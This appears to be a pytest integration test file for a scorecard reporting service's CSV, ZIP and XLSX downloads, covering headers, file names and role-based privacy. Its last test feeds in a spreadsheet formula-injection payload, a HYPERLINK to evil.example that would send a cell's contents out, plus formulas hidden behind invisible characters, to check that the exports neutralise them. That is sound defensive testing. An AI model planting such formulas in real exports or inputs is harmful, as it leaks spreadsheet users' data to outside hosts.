"""The scorecard's downloads: each table one CSV in the reader's language, all of them in a ZIP
and in an XLSX workbook, named after the facility and the round, under the privacy rules of
the JSON."""

import csv
import io
import uuid
import zipfile
from typing import Any
from urllib.parse import quote

import pytest
from httpx import AsyncClient, Response
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from backend.auth.models import Role
from backend.cycles.models import Cycle
from backend.database.session import Database
from backend.facilities.models import Facility
from tests.integration.reports.test_scorecard import _cycle_with_scores
from tests.support.field import Programme, Tablet, programme, school_answers
from tests.support.sync_data import action_item, submission

pytestmark = pytest.mark.asyncio

SCORES_MN = [
    "Байгууллага",
    "Үе",
    "Аймаг, нийслэл",
    "Сум, дүүрэг",
    "Үзүүлэлтийн түлхүүр код",
    "Үзүүлэлт",
    "Гарал",
    "Хэн үнэлсэн",
    "Бүлэг",
    "Хэмжүүр",
    "Аль нь сайн",
    "Үнэлгээний тоо",
    "Оролцогч",
    "Дундаж",
    "Медиан",
    "Хамгийн бага",
    "Хамгийн их",
    "0–100 утга",
    "Зөрүү (иргэд − үйлчилгээ үзүүлэгч)",
    "Өмнөх үеийн дундаж",
    "Өмнөх үеэс өөрчлөлт",
]
SCORES_EN = [
    "Facility",
    "Round",
    "Aimag or capital",
    "Soum or district",
    "Indicator key",
    "Indicator",
    "Origin",
    "Respondent",
    "Group",
    "Scale",
    "Which is better",
    "Scores (n)",
    "Participants",
    "Mean",
    "Median",
    "Min",
    "Max",
    "Value on 0–100",
    "Gap (community − provider)",
    "Previous round's mean",
    "Change since the previous round",
]


def table(response: Response) -> list[dict[str, str]]:
    """A CSV download read back as the one table it is."""
    assert response.status_code == 200, response.text
    assert response.content.startswith(b"\xef\xbb\xbf")  # the byte-order mark
    text = response.content.decode("utf-8-sig")
    assert "\r\n\r\n" not in text  # one table, no blank line between tables
    return list(csv.DictReader(io.StringIO(text)))


def header(response: Response) -> list[str]:
    return next(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


async def _with_a_plan(client: AsyncClient, database: Database) -> tuple[Programme, Tablet, Tablet]:
    field, team, provider = await _cycle_with_scores(client, database)
    pushed = await team.push(
        team.mutation(
            "action_item",
            "create",
            uuid.uuid4(),
            action_item(
                field,
                indicator_keys=["toilets_and_water", "teacher_attendance"],
                due_on="2026-01-15",
                status="in_progress",
                cost_mnt=1_250_000,
                funding_source="soum_ldf",
                level="soum",
            ),
        )
    )
    assert pushed["results"][0]["status"] == "applied", pushed
    return field, team, provider


async def test_the_scores_are_one_table_a_row_per_indicator_respondent_and_group(
    committed_client: AsyncClient, committed_database: Database
) -> None:
    field, team, _ = await _cycle_with_scores(committed_client, committed_database)
    url = f"/reports/v1/cycles/{field.cycle_id}/scorecard"
    answer = await committed_client.get(f"{url}.csv", headers=team.headers)
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert header(answer) == SCORES_MN
    rows = table(answer)
    card = (await committed_client.get(url, headers=team.headers)).json()
    # the community overall, each group, the provider where it answered, the monitors likewise
    expected = sum(
        (i["community"] is not None or i["monitor_n"] == 0)
        + len(i["community_groups"])
        + (i["provider_n"] > 0)
        + (i["monitor_n"] > 0)
        for i in card["indicators"]
    )
    assert len(rows) == expected
    teachers = {
        (r["Хэн үнэлсэн"], r["Бүлэг"]): r
        for r in rows
        if r["Үзүүлэлтийн түлхүүр код"] == "teacher_attendance"
    }
    assert set(teachers) == {
        ("Иргэд", "Бүх бүлэг"),
        ("Иргэд", "Эцэг эхчүүд"),
        ("Иргэд", "Багш нар"),
        ("Үйлчилгээ үзүүлэгч", ""),
    }
    overall = teachers[("Иргэд", "Бүх бүлэг")]
    assert overall["Байгууллага"].startswith("Сургууль ")
    assert (overall["Үе"], overall["Аймаг, нийслэл"]) == ("2026 autumn", "Увс")
    assert overall["Үзүүлэлт"].startswith("Багш нар цагтаа ирж")
    assert (overall["Гарал"], overall["Хэмжүүр"], overall["Аль нь сайн"]) == (
        "Загварын",
        "1–5",
        "их нь сайн",
    )
    assert (overall["Үнэлгээний тоо"], overall["Оролцогч"], overall["Дундаж"]) == (
        "3",
        "18",
        "3.33",
    )
    assert (overall["Медиан"], overall["Хамгийн бага"], overall["Хамгийн их"]) == ("3", "2", "5")
    assert (overall["0–100 утга"], overall["Зөрүү (иргэд − үйлчилгээ үзүүлэгч)"]) == (
        "58.3",
        "-0.67",
    )
    parents = teachers[("Иргэд", "Эцэг эхчүүд")]
    assert (parents["Дундаж"], parents["Оролцогч"]) == ("2.5", "15")
    assert parents["Зөрүү (иргэд − үйлчилгээ үзүүлэгч)"] == ""  # the gap is the overall's
    provider = teachers[("Үйлчилгээ үзүүлэгч", "")]
    assert (provider["Үнэлгээний тоо"], provider["Дундаж"], provider["0–100 утга"]) == (
        "1",
        "4",
        "75",
    )
    # yes/no: the share answering yes, from 0 to 1, and its scale says so
    toilets = next(
        r
        for r in rows
        if r["Үзүүлэлтийн түлхүүр код"] == "toilets_and_water" and r["Бүлэг"] == "Бүх бүлэг"
    )
    assert (toilets["Хэмжүүр"], toilets["Дундаж"]) == ("тийм гэсэн хувь (0–1)", "1")


async def test_english_headers_and_names(
    committed_client: AsyncClient, committed_database: Database
) -> None:
    field, team, _ = await _cycle_with_scores(committed_client, committed_database)
    answer = await committed_client.get(
        f"/reports/v1/cycles/{field.cycle_id}/scorecard.csv",
        params={"lang": "en", "table": "scores"},
        headers=team.headers,
    )
    assert header(answer) == SCORES_EN
    rows = table(answer)
    teachers = [r for r in rows if r["Indicator key"] == "teacher_attendance"]
    assert {(r["Respondent"], r["Group"]) for r in teachers} == {
        ("Community", "All groups"),
        ("Community", "Parents"),
        ("Community", "Teachers"),
        ("Provider", ""),
    }
    assert teachers[0]["Indicator"].startswith("Do teachers come on time")
    assert (teachers[0]["Facility"], teachers[0]["Aimag or capital"]) == ("School", "Uvs")
    # the round has no English label: its Mongolian one, never a key
    assert teachers[0]["Round"] == "2026 autumn"
    assert teachers[0]["Which is better"] == "higher is better"


async def test_each_table_downloads_alone_as_one_table(
    committed_client: AsyncClient, committed_database: Database
) -> None:
    field, team, provider = await _with_a_plan(committed_client, committed_database)
    url = f"/reports/v1/cycles/{field.cycle_id}/scorecard.csv"

    async def get(who: Tablet, **params: str) -> Response:
        return await committed_client.get(url, params=params, headers=who.headers)

    matrix = table(await get(team, table="matrix", lang="en"))
    attendance = next(r for r in matrix if r["Indicator key"] == "teacher_attendance")
    assert (attendance["Parents: mean"], attendance["Parents: participants"]) == ("2.5", "15")
    assert attendance["Parents: reasons and suggestions"] == "Lessons are often cancelled"
    assert (attendance["Community, all: mean"], attendance["Provider"]) == ("3.33", "4")
    assert attendance["Gap (community − provider)"] == "-0.67"

    reasons = table(await get(team, table="reasons", lang="en"))
    assert [(r["Indicator key"], r["Group"], r["Reason"]) for r in reasons] == [
        ("teacher_attendance", "Parents", "Lessons are often cancelled")
    ]

    (textbooks,) = table(await get(team, table="inputs", lang="en"))
    assert (textbooks["Indicator key"], textbooks["Respondent"]) == (
        "textbooks_per_pupil",
        "Provider",
    )
    assert [textbooks[h] for h in ("Entitled", "Found", "Shortfall", "Shortfall share")] == [
        "12",
        "9",
        "3",
        "0.25",
    ]

    # a school round checks no medicines: the table is there, with its header and no row
    medicines = await get(team, table="medicines", lang="en")
    assert table(medicines) == []
    assert header(medicines)[4:6] == ["Medicine key", "Medicine"]

    (item,) = table(await get(team, table="plan"))
    assert (item["Асуудал"], item["Хариуцагч"]) == ("Girls' toilets do not work", "School director")
    # the indicators it answers, by their names
    assert item["Холбогдох үзүүлэлт"] == (
        "Хүүхдүүд хэрэглэх боломжтой, ажиллагаатай бие засах газар, ундны ус байна уу?; "
        "Багш нар цагтаа ирж, хичээл хуваарийн дагуу тасалдалгүй ордог уу?"
    )
    assert (item["Хугацаа"], item["Хугацаа хэтэрсэн"], item["Төлөв"]) == (
        "2026-01-15",
        "тийм",
        "хийгдэж байна",
    )
    assert (item["Төсөв, ₮"], item["Санхүүжилтийн эх үүсвэр"], item["Зарцуулсан, ₮"]) == (
        "1250000",
        "Орон нутгийн хөгжлийн сан",
        "0",
    )
    assert (item["Түвшин"], item["Батлалт"]) == ("Сум", "батлагдаагүй")
    uuid.UUID(item["Арга хэмжээний түлхүүр код"])

    # the provider reads the reasons table, without a word a coordinator has not passed
    hidden = await get(provider, table="reasons")
    assert hidden.status_code == 200, hidden.text
    assert list(csv.reader(io.StringIO(hidden.content.decode("utf-8-sig"))))[1:] == []

    for unknown in ("Scores", "all", "", "reasons;plan"):
        refused = await get(team, table=unknown)
        assert refused.status_code == 400, unknown
        assert (refused.json()["code"], refused.json()["field"]) == (
            "report.unknown_table",
            "table",
        )
    other = await get(team, lang="fr")
    assert (other.status_code, other.json()["code"]) == (400, "request.invalid")


async def test_the_zip_holds_every_table_the_caller_may_read(
    committed_client: AsyncClient, committed_database: Database
) -> None:
    field, team, provider = await _with_a_plan(committed_client, committed_database)
    url = f"/reports/v1/cycles/{field.cycle_id}/scorecard"
    answer = await committed_client.get(f"{url}.zip", headers=team.headers)
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "application/zip"
    facility = answer.headers["content-disposition"]
    archive = zipfile.ZipFile(io.BytesIO(answer.content))
    names = archive.namelist()
    assert [name.rsplit("_", 1)[-1] for name in names] == [
        "2026-autumn.csv",
        "Бүлгээр.csv",
        "Шалтгаан-санал.csv",
        "Орц.csv",
        "Төлөвлөгөө.csv",
    ]
    assert all(name.startswith("Сургууль-") for name in names)
    assert quote(names[0].removesuffix(".csv") + ".zip", safe="") in facility
    # each member is the very file its table's CSV download gives
    for name, which in zip(names, ("scores", "matrix", "reasons", "inputs", "plan"), strict=True):
        alone = await committed_client.get(
            f"{url}.csv", params={"table": which}, headers=team.headers
        )
        assert archive.read(name) == alone.content, which
        assert quote(name, safe="") in alone.headers["content-disposition"]

    theirs = await committed_client.get(
        f"{url}.zip", params={"lang": "en"}, headers=provider.headers
    )
    tables = [n.rsplit("_", 1)[-1] for n in zipfile.ZipFile(io.BytesIO(theirs.content)).namelist()]
    # the provider's reasons table holds only what a coordinator passed: nothing yet
    assert tables == [
        "2026-autumn.csv",
        "Matrix.csv",
        "Reasons.csv",
        "Inputs.csv",
        "Action-plan.csv",
    ]
    reasons = next(
        n
        for n in zipfile.ZipFile(io.BytesIO(theirs.content)).namelist()
        if n.endswith("Reasons.csv")
    )
    rows = zipfile.ZipFile(io.BytesIO(theirs.content)).read(reasons).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(rows)))[1:] == []


async def test_the_workbook_has_a_filtered_fitted_sheet_per_table(
    committed_client: AsyncClient, committed_database: Database
) -> None:
    field, team, _ = await _with_a_plan(committed_client, committed_database)
    answer = await committed_client.get(
        f"/reports/v1/cycles/{field.cycle_id}/scorecard.xlsx",
        params={"lang": "en"},
        headers=team.headers,
    )
    assert answer.status_code == 200
    book = load_workbook(io.BytesIO(answer.content))
    assert book.sheetnames == ["Scores", "Matrix", "Reasons", "Inputs", "Action plan"]
    for sheet in book.worksheets:
        rows = sheet.max_row
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet.auto_filter.ref == f"A1:{get_column_letter(sheet.max_column)}{rows}", (
            sheet.title
        )
        assert all(cell.font.b for cell in sheet[1]), sheet.title
        widths = [
            sheet.column_dimensions[get_column_letter(n)].width
            for n in range(1, sheet.max_column + 1)
        ]
        assert all(8 <= width <= 60 for width in widths), (sheet.title, widths)

    scores = book["Scores"]
    head = [cell.value for cell in scores[1]]
    assert head == SCORES_EN
    keys = [row[4] for row in scores.iter_rows(min_row=2, values_only=True)]
    assert scores.column_dimensions["E"].width == max(map(len, keys)) + 2
    cells = {(r[4].value, r[7].value, r[8].value): r for r in scores.iter_rows(min_row=2)}
    overall = cells[("teacher_attendance", "Community", "All groups")]
    mean = overall[head.index("Mean")]
    assert (mean.value, mean.number_format) == (3.33, "0.00")
    assert overall[head.index("Scores (n)")].number_format == "0"
    assert overall[head.index("Value on 0–100")].number_format == "0"
    toilets = cells[("toilets_and_water", "Community", "All groups")]
    share = toilets[head.index("Mean")]
    assert (share.value, share.number_format) == (1, "0%")  # yes/no: a share shown in percent

    plan = book["Action plan"]
    head = [cell.value for cell in plan[1]]
    item = plan[2]
    cost = item[head.index("Cost, ₮")]
    assert (cost.value, cost.number_format) == (1_250_000, '#,##0 "₮"')
    assert item[head.index("Funding source")].value == "Local Development Fund"
    due = item[head.index("Due")]
    assert (due.value.date().isoformat(), due.number_format) == ("2026-01-15", "yyyy-mm-dd")
    assert (item[head.index("Status")].value, item[head.index("Overdue")].value) == (
        "in progress",
        "yes",
    )
    inputs = book["Inputs"]
    head = [cell.value for cell in inputs[1]]
    shortfall = inputs[2][head.index("Shortfall share")]
    assert (shortfall.value, shortfall.number_format) == (0.25, "0%")


async def test_file_names_say_the_facility_and_the_round(
    committed_client: AsyncClient, committed_database: Database
) -> None:
    field, team, _ = await _cycle_with_scores(committed_client, committed_database)
    async with committed_database.sessionmaker() as db, db.begin():
        school = await db.get_one(Facility, field.facility_id)
        school.name_mn, school.name_en = "Улаангом 1-р сургууль", "Ulaangom School No. 1"
        cycle = await db.get_one(Cycle, field.cycle_id)
        cycle.label, cycle.label_en = "2026 оны намрын үе", "2026 autumn round"
    url = f"/reports/v1/cycles/{field.cycle_id}/scorecard"
    expected: list[tuple[str, dict[str, Any], str, str]] = [
        (
            ".csv",
            {},
            "Улаангом-1-р-сургууль_2026-оны-намрын-үе.csv",
            "Ulaangom-1-r-surguuli_2026-ony-namryn-uye.csv",
        ),
        (
            ".csv",
            {"table": "plan"},
            "Улаангом-1-р-сургууль_2026-оны-намрын-үе_Төлөвлөгөө.csv",
            "Ulaangom-1-r-surguuli_2026-ony-namryn-uye_Tolovlogoo.csv",
        ),
        (
            ".xlsx",
            {},
            "Улаангом-1-р-сургууль_2026-оны-намрын-үе.xlsx",
            "Ulaangom-1-r-surguuli_2026-ony-namryn-uye.xlsx",
        ),
        (
            ".zip",
            {"lang": "en"},
            "Ulaangom-School-No-1_2026-autumn-round.zip",
            "Ulaangom-School-No-1_2026-autumn-round.zip",
        ),
        (
            ".csv",
            {"lang": "en", "table": "matrix"},
            "Ulaangom-School-No-1_2026-autumn-round_Matrix.csv",
            "Ulaangom-School-No-1_2026-autumn-round_Matrix.csv",
        ),
    ]
    for extension, params, name, fallback in expected:
        answer = await committed_client.get(
            f"{url}{extension}", params=params, headers=team.headers
        )
        assert answer.status_code == 200
        assert answer.headers["content-disposition"] == (
            f"attachment; filename=\"{fallback}\"; filename*=UTF-8''{quote(name, safe='')}"
        )


# a formula hidden behind each character a spreadsheet may skip (tests/unit/test_formula_text.py
# tries every kind; these are the ones people paste most)
HIDDEN = {
    "no-break space": "\u00a0",
    "zero-width space": "\u200b",
    "byte-order mark": "\ufeff",
    "line separator": "\u2028",
    "paragraph separator": "\u2029",
    "vertical tab": "\x0b",
    "form feed": "\x0c",
    "ideographic space": "\u3000",
}


async def test_community_text_that_looks_like_a_formula_stays_text(
    committed_client: AsyncClient, committed_database: Database
) -> None:
    field = await programme(committed_database)
    team = await Tablet(committed_client, await field.user(Role.FACILITATOR)).sign_in()
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    typed = {
        "+1 teacher",
        hostile,
        *(f"{char}=1+1 {name}" for name, char in HIDDEN.items()),
        *(f" {char}@SUM(A1) {name}" for name, char in HIDDEN.items()),
    }
    texts = sorted(typed)
    answers = school_answers(3)
    keys = sorted(answers)
    # two texts (a reason and a suggestion) per indicator, as many groups as it takes
    mutations = []
    for start in range(0, len(texts), 2 * len(keys)):
        chunk = texts[start : start + 2 * len(keys)]
        said = dict(answers)
        for index, key in enumerate(keys):
            pair = chunk[2 * index : 2 * index + 2]
            if pair:
                said[key] = answers[key] | {
                    "reason": pair[0],
                    "suggestion": pair[1] if len(pair) > 1 else None,
                }
        mutations.append(
            team.mutation(
                "submission",
                "create",
                uuid.uuid4(),
                submission(
                    field,
                    group={"type": "parents", "participants": {"female": 5, "male": 4}},
                    answers=said,
                ),
            )
        )
    pushed = await team.push(*mutations)
    assert {r["status"] for r in pushed["results"]} == {"applied"}, pushed
    url = f"/reports/v1/cycles/{field.cycle_id}/scorecard"

    reasons = await committed_client.get(
        f"{url}.csv", params={"table": "reasons", "lang": "en"}, headers=team.headers
    )
    written = {r["Reason"] for r in table(reasons)} | {r["Suggestion"] for r in table(reasons)}
    written.discard("")
    # every one written with an apostrophe before it, and otherwise as typed
    assert written == {"'" + text for text in typed}

    book = load_workbook(
        io.BytesIO(
            (
                await committed_client.get(
                    f"{url}.xlsx", params={"lang": "en"}, headers=team.headers
                )
            ).content
        )
    )
    for sheet in ("Reasons", "Matrix"):
        cells = [cell for row in book[sheet].iter_rows(min_row=2) for cell in row]
        looking = [
            c for c in cells if isinstance(c.value, str) and ("=" in c.value or "@" in c.value)
        ]
        assert looking, sheet
        for cell in looking:
            assert cell.data_type == "s", (sheet, cell.value)  # a string, never a formula
        shown = {c.value for c in cells if isinstance(c.value, str)}
        if sheet == "Reasons":
            # XLSX forbids control characters: the vertical tab and the form feed are left out,
            # and the rest stays exactly as typed, each cell marked as quoted text
            kept = {text.replace("\x0b", "").replace("\x0c", "") for text in typed}
            assert kept <= shown
            assert all(c.quotePrefix for c in looking)
